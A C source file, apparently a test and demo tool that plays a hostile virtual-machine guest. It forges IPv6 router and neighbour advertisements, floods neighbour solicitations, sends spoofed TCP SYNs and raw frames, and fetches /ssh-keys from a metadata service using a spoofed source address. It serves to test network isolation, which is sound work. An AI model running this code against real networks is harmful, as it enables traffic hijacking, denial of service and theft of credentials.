// What a hostile guest sends, for the demo and the tests: forged frames by a packet socket, and requests from an address
// that is not the guest's own. It runs inside the demo guest, as root there; it works on any Linux machine.
//
//   attack ra IF [COUNT]                       router advertisements: plain, behind a hop-by-hop header, in VLAN 0
//   attack na IF TARGET [COUNT]                unsolicited neighbour advertisements: TARGET is at our MAC
//   attack ns IF TARGET COUNT [PREFIX]         neighbour solicitations for TARGET from COUNT sources PREFIX::1, ::2, ...
//   attack syn IF MAC SOURCE TARGET [COUNT]    TCP SYNs to port 80 with that source MAC and address; then listens 1 s
//   attack raw IF HEX [COUNT]                  frames given byte by byte
//   attack get [-b SOURCE] [-i IF] [-t SECONDS] [-H FIELD]... TARGET [PATH]    an HTTP GET, the whole answer to stdout
//
// The senders print `sent N`, syn also `answers N`. Exit codes: 0 done (get: an answer with status 200), 1 (get) another
// status, 2 (get) no answer, 3 wrong use or the system refused.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif

typedef struct {
    uint8_t bytes[2048];
    size_t length;
} Frame;

typedef struct {
    int socket;
    int index;
    uint8_t mac[6];
    struct in6_addr linkLocal;
} Port;

static const uint8_t allNodesMAC[6] = {0x33, 0x33, 0, 0, 0, 1};

static void refuse(const char *what) {
    fprintf(stderr, "attack: %s: %s\n", what, errno ? strerror(errno) : "see the head of attack.c");
    exit(3);
}

static struct in6_addr address(const char *text) {
    struct in6_addr result;
    errno = 0;
    if (inet_pton(AF_INET6, text, &result) != 1) refuse(text);
    return result;
}

static long number(const char *text) {
    char *end;
    errno = 0;
    long result = strtol(text, &end, 10);
    if (errno || *end || result < 0) refuse(text);
    return result;
}

static Port openPort(const char *name) {
    Port port = {.socket = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))};
    if (port.socket < 0) refuse("packet socket");
    struct ifreq request = {0};
    strncpy(request.ifr_name, name, IFNAMSIZ - 1);
    if (ioctl(port.socket, SIOCGIFHWADDR, &request) < 0) refuse(name);
    memcpy(port.mac, request.ifr_hwaddr.sa_data, 6);
    if (ioctl(port.socket, SIOCGIFINDEX, &request) < 0) refuse(name);
    port.index = request.ifr_ifindex;
    struct sockaddr_ll bound = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = port.index};
    if (bind(port.socket, (struct sockaddr *)&bound, sizeof bound) < 0) refuse(name);
    const uint8_t *m = port.mac;
    const uint8_t own[16] = {0xfe, 0x80, 0, 0, 0, 0, 0, 0, m[0] ^ 2, m[1], m[2], 0xff, 0xfe, m[3], m[4], m[5]};
    memcpy(&port.linkLocal, own, 16);
    return port;
}

static void sendFrame(const Port *port, const Frame *frame) {
    // A full queue is not the end: a flood waits for room.
    while (send(port->socket, frame->bytes, frame->length, 0) < 0) {
        if (errno != ENOBUFS && errno != EAGAIN) refuse("send");
        usleep(1000);
    }
}

static void append(Frame *frame, const void *bytes, size_t count) {
    if (frame->length + count > sizeof frame->bytes) refuse("frame too long");
    memcpy(frame->bytes + frame->length, bytes, count);
    frame->length += count;
}

static void append16(Frame *frame, uint16_t value) {
    uint16_t wire = htons(value);
    append(frame, &wire, 2);
}

// Ethernet and IPv6 headers; vlan0 puts an 802.1Q tag of VLAN 0 between, hopByHop an empty options header behind.
static Frame headers(const uint8_t from[6], const uint8_t to[6], struct in6_addr source, struct in6_addr target,
                     uint8_t next, uint16_t payload, uint8_t hops, int vlan0, int hopByHop) {
    Frame frame = {.length = 0};
    append(&frame, to, 6);
    append(&frame, from, 6);
    if (vlan0) {
        append16(&frame, ETH_P_8021Q);
        append16(&frame, 0);
    }
    append16(&frame, ETH_P_IPV6);
    append(&frame, (uint8_t[]){0x60, 0, 0, 0}, 4);
    append16(&frame, payload + (hopByHop ? 8 : 0));
    append(&frame, (uint8_t[]){hopByHop ? 0 : next, hops}, 2);
    append(&frame, &source, 16);
    append(&frame, &target, 16);
    if (hopByHop) append(&frame, (uint8_t[]){next, 0, 1, 4, 0, 0, 0, 0}, 8);
    return frame;
}

// The Internet checksum of an upper-layer message with its IPv6 pseudo-header.
static uint16_t checksum(struct in6_addr source, struct in6_addr target, uint8_t next, const uint8_t *bytes,
                         size_t count) {
    uint32_t sum = next + (uint32_t)count;
    for (int i = 0; i < 16; i += 2) {
        sum += (uint32_t)(source.s6_addr[i] << 8 | source.s6_addr[i + 1]);
        sum += (uint32_t)(target.s6_addr[i] << 8 | target.s6_addr[i + 1]);
    }
    for (size_t i = 0; i < count; i++) sum += i % 2 ? bytes[i] : (uint32_t)bytes[i] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

// An upper-layer message in a frame of its own; its checksum is written at checksumAt.
static Frame message(const uint8_t from[6], const uint8_t to[6], struct in6_addr source, struct in6_addr target,
                     uint8_t next, uint8_t *bytes, uint16_t count, size_t checksumAt, int vlan0, int hopByHop) {
    bytes[checksumAt] = bytes[checksumAt + 1] = 0;
    uint16_t sum = htons(checksum(source, target, next, bytes, count));
    memcpy(bytes + checksumAt, &sum, 2);
    Frame frame = headers(from, to, source, target, next, count, 255, vlan0, hopByHop);
    append(&frame, bytes, count);
    return frame;
}

static long sendAdvertisements(const Port *port, long count) {
    // Router lifetime 1800 s; source link-layer address; prefix 2001:db8:bad::/64, on link and autonomous.
    uint8_t ra[16 + 8 + 32] = {134, 0, 0, 0, 64, 0, 0x07, 0x08};
    memcpy(ra + 16, (uint8_t[]){1, 1}, 2);
    memcpy(ra + 18, port->mac, 6);
    memcpy(ra + 24, (uint8_t[]){3, 4, 64, 0xc0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0x20, 1, 0x0d, 0xb8, 0x0b, 0xad}, 22);
    struct in6_addr all = address("ff02::1");
    long sent = 0;
    for (long i = 0; i < count; i++) {
        for (int shape = 0; shape < 3; shape++) {
            Frame frame = message(port->mac, allNodesMAC, port->linkLocal, all, IPPROTO_ICMPV6, ra, sizeof ra, 2,
                                  shape == 2, shape == 1);
            sendFrame(port, &frame);
            sent++;
        }
    }
    return sent;
}

static long sendNeighbourAdvertisements(const Port *port, struct in6_addr target, long count) {
    uint8_t na[24 + 8] = {136, 0, 0, 0, 0x20}; // override, unsolicited
    memcpy(na + 8, &target, 16);
    memcpy(na + 24, (uint8_t[]){2, 1}, 2);
    memcpy(na + 26, port->mac, 6);
    struct in6_addr all = address("ff02::1");
    for (long i = 0; i < count; i++) {
        Frame frame =
            message(port->mac, allNodesMAC, port->linkLocal, all, IPPROTO_ICMPV6, na, sizeof na, 2, 0, 0);
        sendFrame(port, &frame);
    }
    return count;
}

static long sendSolicitations(const Port *port, struct in6_addr target, long count, struct in6_addr prefix) {
    struct in6_addr group = address("ff02::1:ff00:0");
    memcpy(group.s6_addr + 13, target.s6_addr + 13, 3);
    const uint8_t to[6] = {0x33, 0x33, 0xff, target.s6_addr[13], target.s6_addr[14], target.s6_addr[15]};
    for (long i = 1; i <= count; i++) {
        uint8_t ns[24 + 8] = {135};
        memcpy(ns + 8, &target, 16);
        memcpy(ns + 24, (uint8_t[]){1, 1}, 2);
        memcpy(ns + 26, port->mac, 6);
        uint32_t suffix = htonl((uint32_t)i);
        memcpy(prefix.s6_addr + 12, &suffix, 4);
        Frame frame = message(port->mac, to, prefix, group, IPPROTO_ICMPV6, ns, sizeof ns, 2, 0, 0);
        sendFrame(port, &frame);
    }
    return count;
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

// Frames to `source` from port 80 of `target`, seen on the wire within a second.
static long countAnswers(const Port *port, struct in6_addr source, struct in6_addr target) {
    long answers = 0;
    double end = now() + 1;
    for (double left = 1; left > 0; left = end - now()) {
        struct pollfd ready = {.fd = port->socket, .events = POLLIN};
        if (poll(&ready, 1, (int)(left * 1000)) <= 0) continue;
        uint8_t b[2048];
        ssize_t count = recv(port->socket, b, sizeof b, 0);
        if (count < 74 || b[12] != 0x86 || b[13] != 0xdd || b[20] != IPPROTO_TCP) continue;
        if (memcmp(b + 22, &target, 16) || memcmp(b + 38, &source, 16)) continue;
        if (b[54] == 0 && b[55] == 80) answers++;
    }
    return answers;
}

static long sendSYNs(const Port *port, const uint8_t mac[6], struct in6_addr source, struct in6_addr target,
                     long count) {
    // Any unicast MAC reaches the node: its rules lead what goes to a metadata address to the bridge.
    const uint8_t to[6] = {0x02, 0, 0, 0, 0, 1};
    for (long i = 0; i < count; i++) {
        uint8_t syn[24] = {0, 0, 0, 80, 0, 0, 0, 1, 0, 0, 0, 0, 0x60, 0x02, 0xff, 0xff, 0, 0, 0, 0, 2, 4, 0x05, 0xa0};
        uint16_t local = htons((uint16_t)(20000 + i));
        memcpy(syn, &local, 2);
        Frame frame = message(mac, to, source, target, IPPROTO_TCP, syn, sizeof syn, 16, 0, 0);
        sendFrame(port, &frame);
    }
    return count;
}

static long sendRaw(const Port *port, const char *hex, long count) {
    Frame frame = {.length = 0};
    for (; hex[0] && hex[1]; hex += 2) {
        uint8_t byte = (uint8_t)strtol((char[]){hex[0], hex[1], 0}, NULL, 16);
        append(&frame, &byte, 1);
    }
    for (long i = 0; i < count; i++) sendFrame(port, &frame);
    return count;
}

static int connectTo(const char *target, const char *source, const char *interface, struct timeval limit) {
    int family = strchr(target, ':') ? AF_INET6 : AF_INET;
    unsigned scope = interface ? if_nametoindex(interface) : 0;
    int s = socket(family, SOCK_STREAM, 0);
    if (s < 0) refuse("socket");
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    int code;
    if (family == AF_INET6) {
        struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(80), .sin6_addr = address(target)};
        if (IN6_IS_ADDR_LINKLOCAL(&to.sin6_addr)) to.sin6_scope_id = scope;
        if (source) {
            struct sockaddr_in6 from = {.sin6_family = AF_INET6, .sin6_addr = address(source)};
            if (IN6_IS_ADDR_LINKLOCAL(&from.sin6_addr)) from.sin6_scope_id = scope;
            setsockopt(s, IPPROTO_IPV6, IPV6_FREEBIND, &(int){1}, sizeof(int));
            if (bind(s, (struct sockaddr *)&from, sizeof from) < 0) refuse(source);
        }
        code = connect(s, (struct sockaddr *)&to, sizeof to);
    } else {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)}, from = {.sin_family = AF_INET};
        if (inet_pton(AF_INET, target, &to.sin_addr) != 1) refuse(target);
        if (source) {
            if (inet_pton(AF_INET, source, &from.sin_addr) != 1) refuse(source);
            setsockopt(s, IPPROTO_IP, IP_FREEBIND, &(int){1}, sizeof(int));
            if (bind(s, (struct sockaddr *)&from, sizeof from) < 0) refuse(source);
        }
        code = connect(s, (struct sockaddr *)&to, sizeof to);
    }
    if (code == 0) return s;
    close(s);
    return -1;
}

static int get(int argc, char **argv) {
    const char *source = NULL, *interface = NULL;
    long seconds = 3;
    char request[8192], fields[4096] = "";
    int named = 0, option;
    while ((option = getopt(argc, argv, "b:i:t:H:")) != -1) {
        if (option == 'b') source = optarg;
        else if (option == 'i') interface = optarg;
        else if (option == 't') seconds = number(optarg);
        else if (option == 'H') {
            size_t used = strlen(fields);
            snprintf(fields + used, sizeof fields - used, "%s\r\n", optarg);
            if (strncasecmp(optarg, "host:", 5) == 0) named = 1;
        } else refuse("get");
    }
    errno = 0;
    if (optind >= argc) refuse("get");
    const char *path = optind + 1 < argc ? argv[optind + 1] : "/ssh-keys";
    int length = snprintf(request, sizeof request, "GET %s HTTP/1.1\r\n%s%sConnection: close\r\n\r\n", path,
                          named ? "" : "Host: metadata\r\n", fields);

    int s = connectTo(argv[optind], source, interface, (struct timeval){.tv_sec = seconds});
    if (s < 0 || send(s, request, (size_t)length, 0) != length) return 2;
    char answer[65536];
    size_t held = 0;
    for (ssize_t got; held < sizeof answer && (got = recv(s, answer + held, sizeof answer - held, 0)) > 0;)
        held += (size_t)got;
    fwrite(answer, 1, held, stdout);
    if (held < 12) return 2;
    return memcmp(answer + 8, " 200", 4) ? 1 : 0;
}

static int parseMAC(const char *text, uint8_t mac[6]) {
    return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) == 6;
}

int main(int argc, char **argv) {
    if (argc < 3) refuse("which attack?");
    const char *what = argv[1];
    if (strcmp(what, "get") == 0) return get(argc - 1, argv + 1);

    Port port = openPort(argv[2]);
    char **rest = argv + 3;
    int given = argc - 3;
    uint8_t mac[6];
    long sent;
    if (strcmp(what, "ra") == 0) sent = sendAdvertisements(&port, given > 0 ? number(rest[0]) : 1);
    else if (strcmp(what, "na") == 0 && given > 0)
        sent = sendNeighbourAdvertisements(&port, address(rest[0]), given > 1 ? number(rest[1]) : 1);
    else if (strcmp(what, "ns") == 0 && given > 1)
        sent = sendSolicitations(&port, address(rest[0]), number(rest[1]), address(given > 2 ? rest[2] : "fe80:0:0:bad::"));
    else if (strcmp(what, "raw") == 0 && given > 0)
        sent = sendRaw(&port, rest[0], given > 1 ? number(rest[1]) : 1);
    else if (strcmp(what, "syn") == 0 && given > 2 && parseMAC(rest[0], mac)) {
        struct in6_addr source = address(rest[1]), target = address(rest[2]);
        sent = sendSYNs(&port, mac, source, target, given > 3 ? number(rest[3]) : 1);
        printf("answers %ld\n", countAnswers(&port, source, target));
    } else {
        errno = 0;
        refuse(what);
        return 3;
    }
    printf("sent %ld\n", sent);
    return 0;
}
